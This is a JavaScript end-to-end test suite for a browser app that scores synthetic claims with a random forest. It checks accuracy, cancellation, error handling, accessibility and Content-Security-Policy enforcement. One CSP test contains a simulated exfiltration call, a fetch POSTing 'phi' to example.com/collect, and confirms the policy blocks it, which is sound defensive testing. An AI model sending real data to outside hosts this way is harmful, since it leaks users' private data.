// End-to-end tests of the release build in headless Chromium, at / and under a sub-path.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { generate, openApp, trainAndReadAccuracy, useBrowser } from './harness.mjs';

const SUB_PATH = '/claimforest/';
const env = useBrowser(['/', SUB_PATH]);

for (const base of ['/', SUB_PATH]) {
  describe(`served at ${base}`, () => {
    test('generates 1,000 claims and trains a forest to >= 0.93 accuracy, fetching nothing off-host', async () => {
      const { context, page, record } = await openApp(env.browser, env.urls[base]);
      await generate(page, 1000);
      await assert.doesNotReject(page.getByText('3 · Scored claims (1,000)').waitFor());
      const accuracy = await trainAndReadAccuracy(page);
      assert.ok(accuracy >= 0.93, `accuracy ${accuracy}`);
      // Scores reached the table.
      await page.getByRole('columnheader', { name: 'score' }).waitFor();
      // The worker trained it: its wasm was loaded from our own origin.
      assert.ok(record.requests.some((u) => u.endsWith('worker_bg.wasm')), record.requests.join('\n'));
      assert.ok(record.requests.every((u) => u.startsWith(env.urls[base])), `left the app's path:\n${record.requests.join('\n')}`);
      assert.deepEqual(record.offHost, []);
      assert.deepEqual(record.consoleErrors, []);
      assert.deepEqual(await record.cspViolations(), []);
      await context.close();
    });
  });
}

test('the page carries a strict Content-Security-Policy, and the browser enforces it', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls['/']);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const directive of ["default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'"]) {
    assert.ok(csp.includes(directive), `CSP lacks ${directive}: ${csp}`);
  }
  assert.ok(!csp.includes("'unsafe-inline'") && !csp.includes("'unsafe-eval'"), csp);
  assert.equal(await page.locator('script:not([src])').count(), 0, 'no inline script');
  // An attempt to send data elsewhere is refused by the policy before any request is made.
  const outcome = await page.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: 'phi' }).then(() => 'sent', () => 'blocked'));
  assert.equal(outcome, 'blocked');
  assert.ok((await record.cspViolations()).some((v) => v.startsWith('connect-src')));
  assert.deepEqual(record.offHost, []);
  await context.close();
});

test('cancel stops a large training run; the page stays responsive and trains again', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls[SUB_PATH]);
  await generate(page, 200_000);
  await page.getByText('3 · Scored claims (200,000)').waitFor();
  await page.getByTestId('train-button').click();
  const progress = page.getByTestId('train-progress');
  await progress.waitFor();
  assert.equal(await progress.getAttribute('role'), 'progressbar');
  // Wait until the worker has reported at least one tree: training is truly under way.
  await page.waitForFunction(() => Number(document.querySelector('[data-testid="train-progress"]')?.getAttribute('aria-valuenow')) >= 1, null, { timeout: 60_000 });
  // The main thread is free while the worker trains: typing lands at once.
  await page.getByTestId('seed-input').fill('7');
  assert.equal(await page.getByTestId('seed-input').inputValue(), '7');
  const percentBefore = Number(await progress.getAttribute('aria-valuenow'));
  assert.ok(percentBefore < 100, `training finished before cancel could be tested (${percentBefore}%)`);
  await page.getByTestId('cancel-button').click();
  await progress.waitFor({ state: 'detached' });
  await page.getByText('Training cancelled').waitFor();
  assert.equal(await page.getByTestId('metric-accuracy').count(), 0, 'a cancelled run shows no metrics');
  // Recover: a fresh worker trains a small run to completion.
  await generate(page, 1000);
  const accuracy = await trainAndReadAccuracy(page);
  assert.ok(accuracy >= 0.90, `accuracy after recovery ${accuracy}`);
  assert.deepEqual(record.offHost, []);
  assert.deepEqual(record.consoleErrors, []);
  await context.close();
});

test('bad input shows the error banner and keeps the claims already loaded', async () => {
  const { context, page, record } = await openApp(env.browser, env.urls['/']);
  await page.getByText('3 · Scored claims (1,000)').waitFor();
  await generate(page, 5);
  const banner = page.getByTestId('error-banner');
  await banner.waitFor();
  assert.match(await banner.textContent(), /Claims to generate: 5 is outside 10\.\.=1000000/);
  await page.getByText('3 · Scored claims (1,000)').waitFor();
  assert.ok((await page.getByTestId('claim-row').count()) > 0);
  await page.getByRole('button', { name: 'Dismiss error' }).click();
  await banner.waitFor({ state: 'detached' });
  assert.deepEqual(record.consoleErrors, []);
  await context.close();
});

test('every control is labelled and reachable by keyboard', async () => {
  const { context, page } = await openApp(env.browser, env.urls['/']);
  for (const id of ['generate-rows', 'seed-input']) {
    const label = await page.getByTestId(id).evaluate((el) => el.labels?.[0]?.textContent?.trim() ?? '');
    assert.ok(label.length > 0, `${id} has no label`);
  }
  const reached = new Set();
  for (let i = 0; i < 12; i += 1) {
    await page.keyboard.press('Tab');
    reached.add(await page.evaluate(() => document.activeElement?.getAttribute('data-testid')));
  }
  for (const id of ['generate-rows', 'seed-input', 'generate-button', 'train-button', 'claims-table']) {
    assert.ok(reached.has(id), `${id} is not reachable with Tab (reached: ${[...reached].join(', ')})`);
  }
  await context.close();
});
